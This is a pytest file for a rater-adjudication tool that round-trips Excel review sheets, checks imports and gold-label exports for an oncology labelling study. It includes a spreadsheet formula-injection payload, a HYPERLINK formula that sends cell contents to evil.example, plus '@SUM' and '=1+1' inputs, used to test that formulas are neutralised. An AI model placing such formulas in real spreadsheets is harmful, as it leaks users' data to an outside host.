"""Round trip of a real .xlsx: sheet -> adjudicator fills it with openpyxl -> import ->
gold export -> every gold row checked; reruns change nothing; bad cells reported by reference.

The study holds what a pull writes for the mtb schema: the safety label and the
multi-select ``missing_info`` (``|``-joined; ``""`` when nothing is ticked or the field
was hidden), so both single-choice and multi-select rows are adjudicated."""

from __future__ import annotations

import hashlib
import json
import shutil
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from conftest import invoke_cli

from goldboard.fileio import write_csv_atomic, write_jsonl_atomic
from goldboard.study import Study

sys.path.insert(0, str(Path(__file__).resolve().parent))  # --import-mode=importlib: share the MTB table
from test_flags import MTB_PAIRS, I, P, S, U, mtb_table  # noqa: E402

EVIL = '=HYPERLINK("http://evil.example/x?leak="&A1,"Click for details")'
LONG = "Stage IV adenocarcinoma. " * 2000  # 50,000 characters
MI = "missing_info"
MI_VALUES = [
    "stage",
    "ecog_status",
    "prior_therapy",
    "pdl1_expression",
    "brain_metastasis",
    "biomarker_validation",
    "variant_actionability",
]  # mtb schema order, spelled out

# missing_info ticked by (onc_a, onc_b) per item C-n ("" = nothing ticked / field hidden for S and U).
# By hand: sets differ on C-1 2 3 4 5 6 9 12 16 21 24 (11 disagreements; C-21 and C-24 agree on the
# safety label); equal on the 13 others (C-8 and C-23 spelled in another order/case); C-99: onc_b missing.
MISSING_INFO = {
    1: ("stage|ecog_status", ""),
    2: ("pdl1_expression", ""),
    3: ("stage", ""),
    4: ("stage", ""),
    5: ("", "brain_metastasis"),
    6: ("", "stage"),
    7: ("stage", "stage"),
    8: ("stage|pdl1_expression", "PDL1_Expression|stage"),
    9: ("", "ecog_status"),
    12: ("ecog_status", ""),
    16: ("biomarker_validation", ""),
    20: ("ecog_status", "ecog_status"),
    21: ("ecog_status", "ecog_status|prior_therapy"),
    23: ("stage|brain_metastasis", "brain_metastasis| stage"),
    24: ("biomarker_validation", "variant_actionability"),
}


def as_set(value):
    return frozenset(p.strip().lower() for p in value.split("|") if p.strip())


def mtb_table_with_missing_info():
    """The hand-counted MTB table plus one missing_info row per rating, as a pull writes them."""
    df = mtb_table()
    extra = []
    for rec in df.to_dict("records"):
        n = int(rec["item_id"].split("-")[1])
        pair = MISSING_INFO.get(n, ("", ""))
        extra.append({**rec, "field": MI, "value": pair[0] if rec["rater"] == "onc_a" else pair[1]})
    both = pd.concat([df, pd.DataFrame(extra)], ignore_index=True)
    return both.sort_values(["item_id", "rater"], kind="stable").reset_index(drop=True)


def sha(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


@pytest.fixture()
def study(tmp_path):
    return make_study(tmp_path)


def make_study(tmp_path):
    """The hand-counted MTB study (ratings, units with untrusted text), no decisions yet."""
    st = Study.init(tmp_path / "study", schema="mtb", raters=["onc_a", "onc_b"], url="http://127.0.0.1:8089")
    df = mtb_table_with_missing_info()
    df["task_id"] = (100 + df["item_id"].str.split("-").str[1].astype(int) * 2 + (df["rater"] == "onc_b")).astype(
        str
    )  # one task per item x rater
    df["project_id"] = df["rater"].map({"onc_a": "1", "onc_b": "2"})
    write_csv_atomic(df, st.ratings_path(1))
    units = [
        {
            "item_id": f"C-{n}",
            "case_id": f"C-{n}",
            "output_id": "",
            "model": "",
            "case_text": f"Case {n}: NSCLC, EGFR L858R",
            "output_text": f"Osimertinib for case {n}",
        }
        for n in range(1, len(MTB_PAIRS) + 1)
    ]
    units[0]["output_text"] = EVIL  # C-1: sufficiency_vs_optimization, on the agenda
    units[1]["case_text"] = LONG  # C-2
    units[2]["output_text"] = "@SUM(1+1)\x07 bell"  # C-3
    write_jsonl_atomic(units, st.units_path)
    return st


run = invoke_cli


def rows_by_item(ws, field="safety_label"):
    """Header and {item id: {column: cell}} of one field's rows (the safety label by default)."""
    head = [c.value for c in ws[1]]
    out = {}
    for row in ws.iter_rows(min_row=2):
        rec = dict(zip(head, row))
        if rec["Field"].value == field:
            out[rec["Item ID"].value] = rec
    return head, out


def fill(path, decisions):
    """Fill Decision/Reason/Adjudicator as an adjudicator would, with openpyxl.
    Keys: an item id (safety label row) or (item id, field)."""
    wb = openpyxl.load_workbook(path)
    ws = wb["Disagreements"]
    for key, (decision, reason, who) in decisions.items():
        item, field = key if isinstance(key, tuple) else (key, "safety_label")
        row = rows_by_item(ws, field)[1][item]
        row["Decision"].value = decision
        row["Reason"].value = reason
        row["Adjudicator"].value = who
    wb.save(path)


def test_sheet_layout_and_untrusted_text(study, tmp_path):
    out = tmp_path / "review.xlsx"
    res = run("adjudicate", "sheet", "--study", study.path, "-o", out)
    assert res.exit_code == 0, res.output
    # 17 safety-label rows + 12 missing_info rows (11 differing sets, C-99 missing) on 19 items
    assert "29 rows to decide (19 items)" in res.output
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[:4] == ["Summary", "Disagreements", "Agreed", "Codebook"]
    # no cell anywhere is a formula
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    ws = wb["Disagreements"]
    head, rows = rows_by_item(ws)
    evil = rows["C-1"]["Model output"]
    assert evil.value == "'" + EVIL and evil.data_type == "s"
    assert rows["C-3"]["Model output"].value == "'@SUM(1+1)\\x07 bell"
    long = rows["C-2"]["Case summary"].value
    assert len(long) <= 32767 and long.endswith("more characters not shown]")
    assert long.startswith("Stage IV adenocarcinoma. Stage IV")
    # fill-in columns and layout
    assert head[5:8] == ["Decision", "Reason", "Adjudicator"]
    assert ws.freeze_panes == "F2"
    assert ws.auto_filter.ref.startswith("A1:")
    key_col = openpyxl.utils.get_column_letter(head.index("Key (do not edit)") + 1)
    assert ws.column_dimensions[key_col].hidden
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    dvs = ws.data_validations.dataValidation
    lists_dv = [dv for dv in dvs if dv.type == "list"]
    assert len(lists_dv) == 1 and "F2" in str(lists_dv[0].sqref)
    lists = wb["_lists"]
    assert [c.value for c in lists["A"]] == ["safety_label", S, P, U, I, "unresolved"]
    assert lists["B1"].value is None  # no dropdown for the multi-select field
    # multi-select rows: free-text Decision, explained in the header comment and an input message
    _, mrows = rows_by_item(ws, MI)
    assert list(mrows) == ["C-1", "C-2", "C-3", "C-4", "C-5", "C-6", "C-9", "C-12", "C-16", "C-99", "C-21", "C-24"]
    prompt = [dv for dv in dvs if dv.type is None]
    assert len(prompt) == 1 and not prompt[0].showErrorMessage and "none" in prompt[0].prompt
    for r in range(2, ws.max_row + 1):
        is_multi = ws.cell(r, 5).value == MI
        assert (f"F{r}" in prompt[0].sqref, f"F{r}" in lists_dv[0].sqref) == (is_multi, not is_multi), r
    assert "separated by" in ws["F1"].comment.text and "missing_info" in ws["F1"].comment.text
    # the names the raters ticked, not the stored codes (stage|ecog_status)
    assert (mrows["C-1"]["onc_a value"].value, mrows["C-1"]["onc_b value"].value) == ("Stage | ECOG status", "none")
    assert (mrows["C-99"]["onc_a value"].value, mrows["C-99"]["onc_b value"].value) == ("none", "(missing)")
    assert mrows["C-21"]["Flags"].value == "the raters' values differ; agenda priority 9"
    safety = rows_by_item(ws)[1]
    assert safety["C-1"]["Flags"].value == "The oncologists chose different safety labels; agenda priority 2"
    assert safety["C-1"]["Boundary"].value == "Insufficient Information vs Supported or Partially Supported"
    # agenda: an item's missing_info row right after its safety-label row
    order = [(c[2].value, c[4].value) for c in ws.iter_rows(min_row=2)]
    assert order[order.index(("C-1", "safety_label")) + 1] == ("C-1", MI)
    assert order[-3:] == [("C-99", MI), ("C-21", MI), ("C-24", MI)]
    # boundary colour: sufficiency rows share one fill, support_vs_reject another
    assert rows["C-1"]["Case ID"].fill.fgColor.rgb == rows["C-9"]["Case ID"].fill.fgColor.rgb
    assert rows["C-1"]["Case ID"].fill.fgColor.rgb != rows["C-10"]["Case ID"].fill.fgColor.rgb
    # link to each rater's task in Label Studio
    assert rows["C-1"]["onc_a task (Label Studio)"].hyperlink.target == "http://127.0.0.1:8089/projects/1/data?task=102"
    assert rows["C-1"]["onc_a value"].value == I and rows["C-1"]["onc_b value"].value == S
    assert wb["Agreed"].protection.sheet
    # Disagreements: structure protected (no sorting, inserting or deleting rows), only the fill-in cells unlocked
    prot = ws.protection
    assert prot.sheet and prot.sort and prot.insertRows and prot.deleteRows and not prot.autoFilter
    assert prot.password is None
    assert [h for h, c in zip(head, ws[2]) if not c.protection.locked] == ["Decision", "Reason", "Adjudicator"]
    # unanimous, not flagged: 8 safety labels + 13 missing_info sets (7 of them "none")
    agreed = [r for r in wb["Agreed"].iter_rows(min_row=2, values_only=True)]
    assert len(agreed) == 8 + 13
    assert ("C-10", MI, "none") in [(r[1], r[3], r[4]) for r in agreed]
    assert ("C-8", MI, "stage|pdl1_expression") in [(r[1], r[3], r[4]) for r in agreed]
    summary = [r for r in wb["Summary"].iter_rows(values_only=True)]
    assert ("sufficiency_vs_optimization", "safety_label", 9, 16) in [r[:4] for r in summary]
    # headline agreement from the agreement engine, as numbers with their 95% CI
    kappa = next(r for r in summary if r[0] == "safety_label" and r[1] == "Cohen's kappa")
    assert all(isinstance(x, float) for x in kappa[2:5]) and kappa[3] < kappa[2] < kappa[4]
    from goldboard.analysis.agreement import agreement

    ref = next(
        s
        for s in agreement(mtb_table(), "safety_label", schema=study.schema)["statistics"]
        if s["statistic"] == "cohen_kappa" and s["weights"] in (None, "none")
    )
    assert kappa[2:5] == pytest.approx((ref["value"], ref["ci_low"], ref["ci_high"]), abs=1e-12)
    code = [r[:4] for r in wb["Codebook"].iter_rows(values_only=True)]
    assert ("safety_label", "nominal", I, "A critical field is missing, so safety cannot be judged.") in code
    assert [r[2] for r in code if r[0] == MI] == MI_VALUES and all(r[1] == "multi" for r in code if r[0] == MI)
    assert any("missing_info (multi-select)" in str(r[0]) for r in summary)
    assert not any(r[0] == MI for r in summary)  # no headline agreement for the set as a whole


@pytest.mark.slow  # ~7 s
def test_round_trip_import_export_every_row(study, tmp_path):
    sheet = tmp_path / "review.xlsx"
    ratings_sha = sha(study.ratings_path(1))
    assert run("adjudicate", "sheet", "--study", study.path, "-o", sheet).exit_code == 0
    fill(
        sheet,
        {
            "C-10": (S, None, None),  # sides with onc_a: no reason needed
            "C-1": (P, "ECOG 2: caveat, information sufficient", "dr_kim"),  # overrides both
            "C-5": ("unresolved", "await pathology review", None),
            "C-7": ("insufficient info", None, None),  # alias, case-insensitive
            "C-99": (S, None, None),  # the only rating
            # multi-select decisions, typed as free text
            ("C-1", MI): ("ECOG_status, stage", None, None),  # onc_a's set, other order/case/separator
            ("C-2", MI): ("none", None, None),  # onc_b's empty set
            ("C-24", MI): (
                "variant_actionability ;biomarker_validation",
                "both are missing",
                "dr_kim",
            ),  # overrides both
            ("C-21", MI): ("Unresolved", "ask the pathologist", None),
        },
    )
    res = run("adjudicate", "import", "--study", study.path, sheet, "--adjudicator", "dr_lee")
    assert res.exit_code == 0, res.output
    assert (
        "9 new decisions (2 of them 'unresolved': left open, no value decided), 0 changed, 0 unchanged, 20 left blank"
        in (res.output)
    )
    log = [json.loads(line) for line in study.decisions_path.read_text().splitlines()]
    assert [(e["item_id"], e["field"], e["decision"], e["adjudicator"]) for e in log] == [  # agenda order
        ("C-10", "safety_label", S, "dr_lee"),
        ("C-1", "safety_label", P, "dr_kim"),
        ("C-1", MI, "stage|ecog_status", "dr_lee"),
        ("C-2", MI, "", "dr_lee"),
        ("C-5", "safety_label", "unresolved", "dr_lee"),
        ("C-7", "safety_label", I, "dr_lee"),
        ("C-99", "safety_label", S, "dr_lee"),
        ("C-21", MI, "unresolved", "dr_lee"),
        ("C-24", MI, "biomarker_validation|variant_actionability", "dr_kim"),
    ]
    assert all(
        e["source"] == "sheet"
        and e["sheet"] == "review.xlsx"
        and e["sheet_sha256"] == sha(sheet)
        and e["independent"] is True
        and e["previous_id"] is None
        for e in log
    )

    res = run("gold", "export", "--study", study.path)
    assert res.exit_code == 0, res.output
    # C-99 missing_info: onc_b missing, onc_a ticked nothing (h7: unresolved only for the missing rating)
    assert "(50 rows: 21 unanimous, 7 adjudicated, 22 unresolved, 1 of them only for a missing rating" in res.output
    gold = pd.read_csv(study.gold_dir / "v1" / "gold.csv", dtype=str, keep_default_na=False)
    assert list(gold.columns) == [
        "item_id",
        "case_id",
        "output_id",
        "model",
        "field",
        "gold_value",
        "method",
        "round",
        "value_onc_a",
        "value_onc_b",
        "adjudicator",
        "independent",
        "reason",
        "decided_at",
        "decision_id",
    ]
    decided = {
        ("C-10", "safety_label"): S,
        ("C-1", "safety_label"): P,
        ("C-7", "safety_label"): I,
        ("C-99", "safety_label"): S,
        ("C-1", MI): "stage|ecog_status",
        ("C-2", MI): "",
        ("C-24", MI): "biomarker_validation|variant_actionability",
    }
    left_open = {("C-5", "safety_label"): "await pathology review", ("C-21", MI): "ask the pathologist"}
    assert len(gold) == 2 * (len(MTB_PAIRS) + 1)
    assert list(gold["field"]) == ["safety_label", MI] * (len(MTB_PAIRS) + 1)  # item by item, schema order
    for row in gold.itertuples():
        n = int(row.item_id.split("-")[1])
        key = (row.item_id, row.field)
        if row.field == "safety_label":
            a, b = MTB_PAIRS[n - 1] if n <= len(MTB_PAIRS) else (S, "")
            b = I if b == "Insufficient Info" else b
            assert (row.value_onc_a, row.value_onc_b) == (a, b), row
            same = a == b
        else:  # sets, written |-joined in schema order ("" = nothing ticked)
            a, b = MISSING_INFO.get(n, ("", "" if n <= len(MTB_PAIRS) else None))
            assert as_set(row.value_onc_a) == as_set(a) and row.value_onc_a == "|".join(
                v for v in MI_VALUES if v in as_set(a)
            ), row
            assert row.value_onc_b == ("" if b is None else "|".join(v for v in MI_VALUES if v in as_set(b))), row
            same = b is not None and as_set(a) == as_set(b)
        if key in decided:
            assert (row.method, row.gold_value) == ("adjudicated", decided[key]), row
            assert row.adjudicator == ("dr_kim" if key in (("C-1", "safety_label"), ("C-24", MI)) else "dr_lee")
            assert row.independent == "true" and row.decided_at and row.decision_id
        elif key in left_open:
            assert (row.method, row.gold_value, row.reason) == ("unresolved", "", left_open[key]), row
        elif same:
            assert (row.method, row.gold_value, row.adjudicator) == ("unanimous", row.value_onc_a, ""), row
        else:
            assert (row.method, row.gold_value) == ("unresolved", ""), row
    unanimous_none = gold[(gold.field == MI) & (gold.method == "unanimous") & (gold.gold_value == "")]
    assert sorted(unanimous_none.item_id, key=lambda i: int(i[2:])) == [
        f"C-{n}" for n in (10, 11, 13, 14, 15, 17, 18, 19, 22)
    ]  # both raters ticked nothing
    man = json.loads((study.gold_dir / "v1" / "manifest.json").read_text())
    assert man["counts"]["safety_label"] == {"unanimous": 8, "adjudicated": 4, "unresolved": 13}
    # hand count: 13 equal sets; C-1, C-2, C-24 decided; C-3 4 5 6 9 12 16 21 99 open
    assert man["counts"][MI] == {"unanimous": 13, "adjudicated": 3, "unresolved": 9}
    assert man["counts"]["all"] == {"unanimous": 21, "adjudicated": 7, "unresolved": 22}
    assert man["fields"] == ["safety_label", MI]
    assert man["files"]["gold.csv"]["sha256"] == sha(study.gold_dir / "v1" / "gold.csv")
    assert man["schema"] == {"name": "mtb", "version": "1.0"} and man["raters"] == ["onc_a", "onc_b"]
    assert man["sources"]["ratings"] == [{"path": "rounds/1/ratings.csv", "round": 1, "sha256": ratings_sha}]
    assert man["sources"]["decisions"]["entries"] == 9 and man["version"] == "v1"

    # ---- reruns change nothing
    log_before = study.decisions_path.read_bytes()
    res = run("adjudicate", "import", "--study", study.path, sheet, "--adjudicator", "dr_lee")
    assert res.exit_code == 0 and "0 new decisions, 0 changed, 9 unchanged" in res.output
    res = run("adjudicate", "import", "--study", study.path, sheet, "--adjudicator", "other", "--not-independent")
    assert res.exit_code == 0 and "0 new decisions, 0 changed, 9 unchanged" in res.output
    sheet2 = tmp_path / "review2.xlsx"  # regenerated mid-adjudication: decisions pre-filled
    assert run("adjudicate", "sheet", "--study", study.path, "-o", sheet2).exit_code == 0
    _, pre = rows_by_item(openpyxl.load_workbook(sheet2)["Disagreements"], MI)
    assert [pre[i]["Decision"].value for i in ("C-1", "C-2", "C-21", "C-3")] == [
        "stage|ecog_status",
        "none",
        "unresolved",
        None,
    ]
    res = run("adjudicate", "import", "--study", study.path, sheet2, "--adjudicator", "someone_else")
    assert res.exit_code == 0 and "0 new decisions, 0 changed, 9 unchanged" in res.output
    assert study.decisions_path.read_bytes() == log_before
    res = run("gold", "export", "--study", study.path)
    assert res.exit_code == 0 and "Gold unchanged since v1" in res.output
    assert [p.name for p in study.gold_dir.iterdir()] == ["v1"]

    # ---- changed decisions are appended, the old ones kept; a new release; diff shows them
    v1_sha = sha(study.gold_dir / "v1" / "gold.csv")
    # (in the fresh sheet2: the first sheet's decisions are imported, and editing it again would
    # conflict with them like a second filled copy of that workbook)
    fill(
        sheet2,
        {
            "C-10": (U, "onc_b's reading of the trial evidence holds", None),
            ("C-2", MI): ("pdl1_expression", "PD-L1 not reported", None),
        },
    )  # none -> onc_a's set (changing a decision needs a reason)
    res = run("adjudicate", "import", "--study", study.path, sheet2, "--adjudicator", "dr_lee", "--not-independent")
    assert res.exit_code == 0 and "0 new decisions, 2 changed, 7 unchanged" in res.output, res.output
    assert f'"C-10" safety_label: "{S}" -> "{U}" (by dr_lee)' in res.output  # what changed, old -> new, by whom
    assert '"C-2" missing_info: "none" -> "pdl1_expression" (by dr_lee)' in res.output
    log = [json.loads(line) for line in study.decisions_path.read_text().splitlines()]
    assert len(log) == 11 and log[:9] == [json.loads(x) for x in log_before.decode().splitlines()]
    assert (log[9]["previous_id"], log[9]["previous_decision"], log[9]["independent"]) == (log[0]["id"], S, False)
    assert (log[10]["field"], log[10]["decision"], log[10]["previous_id"], log[10]["previous_decision"]) == (
        MI,
        "pdl1_expression",
        log[3]["id"],
        "",
    )
    res = run("gold", "export", "--study", study.path, "--format", "jsonl")
    assert res.exit_code == 0 and "v2" in res.output
    assert sha(study.gold_dir / "v1" / "gold.csv") == v1_sha
    v2 = [json.loads(x) for x in (study.gold_dir / "v2" / "gold.jsonl").read_text().splitlines()]
    assert {
        (r["item_id"], r["gold_value"], r["method"]) for r in v2 if r["field"] == MI and r["item_id"] in ("C-2", "C-10")
    } == {("C-2", "pdl1_expression", "adjudicated"), ("C-10", "", "unanimous")}
    res = run("gold", "diff", "v1", "v2", "--study", study.path, "--format", "json")
    assert res.exit_code == 0, res.output
    changes = json.loads(res.output)["changes"]
    assert [(c["item_id"], c["field"], c["change"], c["old_value"], c["new_value"]) for c in changes] == [
        ("C-2", MI, "value", "", "pdl1_expression"),
        ("C-10", "safety_label", "value", S, U),
    ]
    res = run("gold", "diff", "v1", "v2", "--study", study.path)
    assert "C-10" in res.output and "2 changed" in res.output
    # raters' ratings were never modified
    assert sha(study.ratings_path(1)) == ratings_sha


def test_bad_cells_reported_by_reference_nothing_imported(study, tmp_path):
    sheet = tmp_path / "review.xlsx"
    assert run("adjudicate", "sheet", "--study", study.path, "-o", sheet).exit_code == 0
    wb = openpyxl.load_workbook(sheet)
    ws = wb["Disagreements"]
    head, rows = rows_by_item(ws)
    rows["C-10"]["Decision"].value = "Supportd"
    rows["C-11"]["Case ID"].value = "C-12"
    rows["C-1"]["Decision"].value = P  # overrides both raters, no reason
    rows["C-2"]["Reason"].value = "=1+1"
    rows["C-2"]["Decision"].value = S
    rows["C-3"]["Decision"].value = S  # a good row: still not imported
    key = rows["C-4"]["Key (do not edit)"]
    key.value = key.value.replace("C-4", "C-44")
    _, mrows = rows_by_item(ws, MI)
    mrows["C-3"]["Decision"].value = "stgae, ecog_status"  # a typo among good values
    mrows["C-4"]["Decision"].value = "none | stage"  # none and values at once
    mrows["C-12"]["Decision"].value = "prior_therapy|PDL1_expression"  # overrides both sets, no reason
    mrows["C-5"]["Decision"].value = "|;"  # separators only
    mrows["C-6"]["Decision"].value = "stage; brain_metastasis"  # a good multi row: still not imported
    mrows["C-6"]["Reason"].value = "both"
    ws.cell(row=ws.max_row + 1, column=6).value = S  # a row added by hand
    wb.save(sheet)
    r10, r11, r1, r2, r4 = (rows[i]["Decision"].row for i in ("C-10", "C-11", "C-1", "C-2", "C-4"))
    m3, m4, m12, m5 = (mrows[i]["Decision"].row for i in ("C-3", "C-4", "C-12", "C-5"))
    res = run("adjudicate", "import", "--study", study.path, sheet, "--adjudicator", "dr_lee")
    assert res.exit_code != 0
    assert f'Disagreements!F{r10}: decision "Supportd" is not a value of safety_label' in res.output
    assert f'Disagreements!B{r11}: case id "C-12" was edited' in res.output
    assert f'Disagreements!G{r1}: reason required: decision "Partially Supported" overrides every rater' in res.output
    assert f"Disagreements!G{r2}: reason is a formula" in res.output
    key_col = openpyxl.utils.get_column_letter(head.index("Key (do not edit)") + 1)
    assert f"Disagreements!{key_col}{r4}: the hidden key was edited" in res.output
    assert f"Disagreements!{key_col}{ws.max_row}: row has no key" in res.output
    allowed = (
        "stage, ecog_status, prior_therapy, pdl1_expression, brain_metastasis, biomarker_validation, "
        "variant_actionability, none, unresolved"
    )
    assert f'Disagreements!F{m3}: "stgae" is not a value of missing_info (allowed: {allowed})' in res.output
    assert f'Disagreements!F{m4}: "none" cannot be combined with other values' in res.output
    assert (
        f'Disagreements!G{m12}: reason required: decision "prior_therapy|pdl1_expression" overrides every '
        f"rater (ecog_status, none)"
    ) in res.output
    assert f'Disagreements!F{m5}: decision "|;" names no value of missing_info' in res.output
    assert "review.xlsx: 10 problems found; nothing imported" in res.output
    assert not study.decisions_path.exists()


def test_flag_study_cli(study, tmp_path):
    res = run("flag", "--study", study.path, "--format", "json")
    assert res.exit_code == 0, res.output
    data = json.loads(res.stdout)
    assert data["summary"]["by_boundary"]["sufficiency_vs_optimization"] == {
        "field": "safety_label",
        "count": 9,
        "of": 16,
        "share": 0.5625,
        "priority": 2,
        "explanation": study.schema.boundaries[1].explanation,
    }
    res = run("flag", "--study", study.path, "--triggered-only", "-o", tmp_path / "agenda.txt")
    assert res.exit_code == 0 and "Wrote 17 flagged rows" in res.output
    assert "(sufficiency_vs_optimization): 9 of 16" in (tmp_path / "agenda.txt").read_text()
    res = run("flag", "--study", study.path, "--round", "3")
    assert res.exit_code != 0 and "--round 3: the study has round 1; round 3 does not exist" in res.output


def test_import_cli_errors_without_traceback(study, tmp_path):
    res = run("adjudicate", "import", "--study", study.path, tmp_path / "missing.xlsx", "--adjudicator", "x")
    assert res.exit_code != 0 and "file not found" in res.output
    bad = tmp_path / "not.xlsx"
    bad.write_text("hello")
    res = run("adjudicate", "import", "--study", study.path, bad, "--adjudicator", "x")
    assert res.exit_code != 0 and "cannot open as an Excel workbook" in res.output
    res = run("adjudicate", "sheet", "--study", tmp_path / "nostudy", "-o", tmp_path / "r.xlsx")
    assert res.exit_code != 0 and "not a goldboard study" in res.output
    res = run("adjudicate", "sheet", "--study", study.path, "-o", tmp_path / "r.csv")
    assert res.exit_code != 0 and ".xlsx" in res.output
    other = Study.init(tmp_path / "other", schema="medfail", raters=["r1", "r2"])
    shutil.copy(study.ratings_path(1), tmp_path / "x.csv")
    sheet = tmp_path / "review.xlsx"
    assert run("adjudicate", "sheet", "--study", study.path, "-o", sheet).exit_code == 0
    write_csv_atomic(
        pd.DataFrame({"round": ["1"], "item_id": ["M1"], "rater": ["r1"], "field": ["severity"], "value": ["3"]}),
        other.ratings_path(1),
    )
    res = run("adjudicate", "import", "--study", other.path, sheet, "--adjudicator", "x")
    assert res.exit_code != 0 and "made for schema" in res.output
    res = run("gold", "diff", "v1", "v9", "--study", study.path)
    assert res.exit_code != 0 and "no such gold release" in res.output
